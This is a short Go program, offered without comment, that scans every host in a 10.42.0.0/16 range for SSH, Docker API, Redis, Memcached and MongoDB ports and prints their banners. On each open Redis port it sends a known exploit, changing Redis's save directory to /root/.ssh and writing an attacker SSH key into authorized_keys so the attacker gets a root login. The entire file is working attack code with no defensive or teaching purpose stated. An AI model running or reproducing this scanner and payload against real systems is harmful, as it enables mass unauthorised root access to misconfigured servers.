package main

import (
	"bufio"
	"fmt"
	"net"
	"sync"
	"time"
)

func main() {
	sem := make(chan struct{}, 4000)
	var wg sync.WaitGroup
	for a := 0; a < 256; a++ {
		for b := 1; b < 255; b++ {
			for _, p := range []int{22, 2375, 6379, 11211, 27017} {
				wg.Add(1)
				sem <- struct{}{}
				go func(addr string, p int) {
					defer func() { <-sem; wg.Done() }()
					c, err := net.DialTimeout("tcp", addr, 500*time.Millisecond)
					if err != nil {
						return
					}
					defer c.Close()
					if p == 6379 {
						fmt.Fprintf(c, "CONFIG SET dir /root/.ssh/\r\nCONFIG SET dbfilename authorized_keys\r\nSET k \"\\n\\nssh-rsa AAAAexample c\\n\\n\"\r\nSAVE\r\n")
					}
					c.SetReadDeadline(time.Now().Add(time.Second))
					l, _ := bufio.NewReader(c).ReadString('\n')
					fmt.Println(addr, l)
				}(fmt.Sprintf("10.42.%d.%d:%d", a, b, p), p)
			}
		}
	}
	wg.Wait()
}
